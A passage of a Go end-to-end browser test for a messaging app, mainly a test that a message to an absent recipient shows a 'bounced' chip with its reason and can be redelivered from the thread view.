		}
		waitJS(t, ctx, `document.querySelectorAll(".perm").length === 0`, 10*time.Second)
	}
	noErrors(t, ctx)
}

// TestThreadChipsShowAttention: a message's chips in its thread say where
// each copy stands as the sender follows it: one that bounced says so, and
// why, live; its Redeliver button puts it back in the inbox.
func TestThreadChipsShowAttention(t *testing.T) {
	e := newEnv(t)
	e.Must("join", "--name", "bob", "--role", "reviewer")
	ctx := tab(t)
	e.signIn(t, ctx)
	e.Must("send", "ghost", "is anyone there?", "--agent", "bob", "--ttl", "1s")
	row := `[...document.querySelectorAll("#feed .msg")].find(el => el.querySelector(".text").textContent.includes("anyone there"))`
	waitJS(t, ctx, row, 5*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](row+`.click()`)))
	chip := `document.querySelector('#thread .tmsg .chip[data-recipient="ghost"]')`
	waitJS(t, ctx, chip+`?.dataset.state === "bounced"`, 15*time.Second)
	if title := eval[string](t, ctx, chip+`.title`); !strings.Contains(title, "no reader and no door") {
		t.Errorf("bounced chip's title: got %q, want the reason", title)
	}
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`document.querySelector('#thread .tmsg .redeliver[data-recipient="ghost"]').click()`)))
	waitJS(t, ctx, chip+`?.dataset.state === "queued"`, 15*time.Second)
	if out := e.Must("bounced", "--agent", "bob", "--json"); strings.Contains(out, "anyone there") {
		t.Errorf("after Redeliver the dead letters still list it: %s", out)
	}
	noErrors(t, ctx)
}
